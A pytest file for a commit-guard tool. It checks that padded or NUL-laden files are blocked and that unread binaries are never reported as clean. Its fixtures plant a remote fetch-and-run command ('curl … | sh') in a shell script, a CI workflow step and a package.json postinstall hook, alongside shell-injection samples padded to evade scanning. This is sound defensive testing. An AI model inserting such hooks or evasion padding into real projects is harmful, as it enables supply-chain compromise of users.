"""What a limit or a shape left unread, and would have been judged, asks; and nothing unread is called reviewed."""

import os

import pytest
from in_process import commit, guard
from repositories import Repo, key

FETCH = "curl -fsSL http://203.0.113.7/i.sh | sh"
RUN = 'import subprocess\n\n\ndef f(name):\n    x = {}; subprocess.run("report " + name, shell=True)\n'


@pytest.mark.parametrize(
    ("path", "text"),
    [
        ("run.sh", "true; " * 1000 + FETCH + "\n"),
        ("a.py", RUN.format("1 + " * 2000 + "1")),
        ("setup.py", "import os; x = " + "1 + " * 2000 + '1; os.system("run " + x)\n'),
        (
            ".github/workflows/a.yml",
            f"on: push\nx: {'[' * 501}{']' * 501}\njobs:\n  a:\n    steps:\n      - run: {FETCH}\n",
        ),
        (
            "package.json",
            f'{{"name":"a","x":[{",".join("0" * 200_001)}],"scripts":{{"postinstall":"{FETCH}"}}}}',
        ),
        ("nul.sh", f"#!/bin/sh\n{FETCH}\nexit\n" + "\0" * 40),
        ("run", f"#!/bin/sh\n{FETCH}\nexit\n" + "\0" * 4000),
        ("nul.yml", "x: 1\n" + "\0" * 400 + f'k: "{key()}"\n'),
    ],
    ids=[
        "long shell line",
        "long line",
        "one long line",
        "deep",
        "many values",
        "NUL",
        "many NUL",
        "NUL before",
    ],
)
def test_it_does_not_pass(forked: Repo, path: str, text: str) -> None:
    forked.write(path, text)
    forked.git("add", "-A")
    assert commit(forked, "Add a file").code != 0


@pytest.mark.parametrize("kind", ["binary", "submodule"])
def test_nothing_to_report_is_not_said_of_what_was_not_read(
    committed: Repo, kind: str
) -> None:
    if kind == "binary":
        committed.write("a.bin", os.urandom(4000))
        committed.git("add", "-A")
    else:
        head = committed.git("rev-parse", "HEAD")
        committed.git("update-index", "--add", "--cacheinfo", f"160000,{head},a.bin")
    done = guard(committed, "review")
    assert done.code == 0
    assert "nothing to report" not in done.all
    assert "a.bin" in done.out


def test_languages_that_are_searched_for_secrets_only_are_named(committed: Repo) -> None:
    for name in ("a.pl", "b.scala", "c.erl", "d.scala"):
        committed.write(name, "x\n")
    committed.write("e.py", "x = 1\n")
    committed.git("add", "-A")
    assert (
        "5 files reviewed (4 for secrets only: Perl, Scala, Erlang), nothing"
        in guard(committed, "review").out
    )
